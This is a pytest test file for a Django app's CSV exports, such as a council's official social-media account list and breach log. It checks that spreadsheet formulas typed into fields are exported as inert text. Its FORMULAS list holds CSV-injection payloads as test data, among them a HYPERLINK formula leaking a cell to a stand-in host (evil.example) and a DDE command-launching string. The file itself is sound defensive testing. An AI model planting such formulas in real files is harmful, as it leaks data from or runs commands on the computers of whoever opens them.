"""Every CSV export is safe to open in a spreadsheet: no cell starts a formula (OWASP CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from herald.policies import services as policy_services
from herald.policies.tests.factories import CampaignFactory
from herald.social_accounts.tests.factories import AccountFactory
from testing.factories import PersonFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open the council site")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
]
FORMULA_IDS = ["equals", "at", "plus", "minus", "tab", "carriage return", "spaces then equals"]


def _official_csv(client, planted: str, **people) -> str:
    # The public list: the account's name came from an account request.
    AccountFactory(team=people["team"], display_name=planted)
    return reverse("social_accounts:official_csv")


def _register_csv(client, planted: str, **people) -> str:
    AccountFactory(team=people["team"], purpose=planted)
    client.force_login(people["comms_officer"])
    return reverse("social_accounts:register_csv")


def _campaign_csv(client, planted: str, **people) -> str:
    # A name imported from the HR feed.
    PersonFactory(team=people["team"], first_name=planted, last_name="Ashby")
    policy_services.install_default_documents()
    campaign = CampaignFactory()
    policy_services.launch_campaign(campaign, by=people["comms_officer"])
    client.force_login(people["comms_officer"])
    return reverse("policies:campaign_export", args=[campaign.pk])


def _breach_log_csv(client, planted: str, **people) -> str:
    # A summary typed by whoever reported the breach.
    from testing.factories import incident

    incident("personal_data_breach", by=people["comms_officer"], summary=planted)
    client.force_login(PersonFactory(roles=["info_gov"]))
    return reverse("incidents:breach_log_csv")


EXPORTS = {
    "public list of official accounts": _official_csv,
    "register of accounts": _register_csv,
    "policy campaign acknowledgements": _campaign_csv,
    "breach log": _breach_log_csv,
}


def _cells(response) -> list[str]:
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("planted", FORMULAS, ids=FORMULA_IDS)
@pytest.mark.parametrize("export", EXPORTS.values(), ids=EXPORTS.keys())
def test_a_formula_typed_into_a_field_opens_as_text_in_every_export(client, team, comms_officer, export, planted):
    url = export(client, planted, team=team, comms_officer=comms_officer)

    response = client.get(url)

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    core = planted.strip()
    found = [cell for cell in _cells(response) if core in cell]
    assert found, "the planted value should reach the export"
    for cell in found:
        assert cell.startswith("'"), f"{cell!r} would open as a formula"
        assert cell.lstrip("'").strip().startswith(core), "the text itself is kept for people to read"


def test_ordinary_names_and_addresses_are_exported_exactly_as_entered(client, team, comms_officer):
    AccountFactory(
        team=team,
        display_name="Hinckley & Bosworth Borough Council",
        handle="HinckleyBC",
        profile_url="https://x.com/HinckleyBC",
        purpose="News, events - and service updates",
    )
    client.force_login(comms_officer)

    rows = list(csv.DictReader(io.StringIO(client.get(reverse("social_accounts:register_csv")).content.decode())))

    assert rows[0]["Display name"] == "Hinckley & Bosworth Borough Council"
    assert rows[0]["Handle"] == "HinckleyBC"
    assert rows[0]["Purpose"] == "News, events - and service updates"


def test_the_public_csv_gives_each_handle_as_plain_text_a_spreadsheet_shows_unchanged(client, team):
    AccountFactory(
        team=team, platform="x", display_name="Hinckley and Bosworth", handle="HBBC", profile_url="https://x.com/HBBC"
    )

    response = client.get(reverse("social_accounts:official_csv"))

    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    # "@HBBC" would open as a formula (#NAME? in Excel); the bare handle reads the same everywhere,
    # and the platform and address say where it lives. The JSON feed keeps the "@".
    assert row["handle"] == "HBBC"
    assert row["platform"] == "x" and row["url"] == "https://x.com/HBBC"
    assert client.get(reverse("social_accounts:official_json")).json()["accounts"][0]["handle"] == "@HBBC"
